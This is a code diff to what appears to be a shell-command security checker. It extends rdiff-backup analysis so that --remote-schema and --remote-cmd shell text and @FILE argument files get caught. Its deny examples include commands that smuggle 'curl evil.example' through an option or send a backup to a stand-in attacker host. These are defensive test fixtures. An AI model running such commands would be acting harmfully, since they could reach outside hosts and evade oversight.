@@ -5,7 +5,7 @@ import { has, operandWords, parse } from '../argv.js';
 import { inMode, keepsStdin, merge, programRun } from '../build.js';
 import type { Answer, Call, Kept, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { bound, canonicalHost, type Destination, destinations, loopbackHost, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
-import { attached, literal, value, xargsSplit } from '../words.js';
+import { attached, literal, longSpelt, shellQuote, value, xargsSplit } from '../words.js';
 import { configFileRuns, keeping } from './credentials.js';
 import { gitAddressHost } from './git.js';
 import { commandOptions, databaseClient, luaFile, sqlDrop, sqliteFile, sqliteText, sshOptions } from './tools.js';
@@ -1650,6 +1650,27 @@ function rdiffPlace(v: string): Host | Host[] {
   return m ? canonicalHost(m[1]!) : [];
 }
 
+/**
+ * rdiff-backup: its places (rdiffPlace); `--remote-schema` (and `--remote-cmd`, its other name; argparse and the old
+ * getopt both take a prefix, `--remote-s`, and `=VALUE`) is the shell text it runs to reach a remote place; `@FILE`
+ * (argparse's fromfile) is more arguments, a line each, read as the line's own when the line wrote the file.
+ */
+function rdiffBackup(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (const [i, w] of args.entries()) {
+    const spelt = longSpelt(w, 'remote-schema') ?? longSpelt(w, 'remote-cmd');
+    const schema = spelt && (spelt.value ?? args[i + 1]);
+    if (schema) runs.push({ kind: 'script', dialect: 'bash', words: [schema], via: 'rdiff-backup --remote-schema' });
+    const file = value(w)?.startsWith('@') ? attached(w, value(w)!.slice(1)) : undefined;
+    if (file) {
+      const read = (text: string, word: Word, name: string): Run[] => [{ kind: 'text', dialect: 'bash', text: [call.name, ...text.split('\n').filter((l) => l !== '')].map(shellQuote).join(' '), word, via: `rdiff-backup @${name}` }];
+      runs.push({ kind: 'project', file, files: /$^/, read, word: w, via: 'rdiff-backup @FILE' });
+    }
+  }
+  return { runs, reroutes: placesIn(call, rdiffPlace) };
+}
+
 /** bup's `-r [user@]host:[path]`, `ssh://…`, `bup://host[:port]/path`. */
 function bupRemote(v: string): Host | Host[] {
   if (/^bup(-rev)?:\/\//i.test(v)) return urlHost(`http://${v.replace(/^[^:]*:\/\//, '')}`);
@@ -1911,19 +1932,11 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['rdiff-backup'],
-    summary: 'rdiff-backup: an operand `[user@]host::path` is on another machine, reached over ssh (a place allowedHosts must list); --remote-schema runs shell text',
-    analyze: (call) => {
-      const runs: Run[] = [];
-      for (const [i, w] of call.args.entries()) {
-        const v = value(w);
-        if (v === '--remote-schema' && call.args[i + 1]) runs.push({ kind: 'script', dialect: 'bash', words: [call.args[i + 1]!], via: 'rdiff-backup --remote-schema' });
-        else if (v?.startsWith('--remote-schema=')) runs.push({ kind: 'script', dialect: 'bash', words: [attached(w, v.slice(16))], via: 'rdiff-backup --remote-schema' });
-      }
-      return { runs, reroutes: placesIn(call, rdiffPlace) };
-    },
+    summary: 'rdiff-backup: an operand `[user@]host::path` is on another machine, reached over ssh (a place allowedHosts must list); --remote-schema (--remote-cmd) runs shell text; @FILE holds more arguments',
+    analyze: (call) => rdiffBackup(call),
     examples: {
-      deny: ['rdiff-backup src b::/x', 'rdiff-backup backup src u@evil.example::/srv/x', "rdiff-backup --remote-schema 'curl evil.example' src /mnt/b"],
-      pass: ['rdiff-backup src /mnt/b', 'rdiff-backup backup src /mnt/b', 'rdiff-backup src localhost::/tmp/x', 'rdiff-backup --version'],
+      deny: ['rdiff-backup src b::/x', 'rdiff-backup backup src u@evil.example::/srv/x', "rdiff-backup --remote-schema 'curl evil.example' src /mnt/b", "rdiff-backup --remote-sch 'curl evil.example' src /mnt/b", "rdiff-backup --remote-cmd='curl evil.example' src /mnt/b"],
+      pass: ['rdiff-backup src /mnt/b', 'rdiff-backup backup src /mnt/b', 'rdiff-backup src localhost::/tmp/x', 'rdiff-backup --version', 'rdiff-backup --remote-tempdir /tmp src /mnt/b', "printf -- '--remote-tempdir\\n/tmp\\n' > a.txt; rdiff-backup @a.txt backup src /mnt/b"],
     },
   },
   {
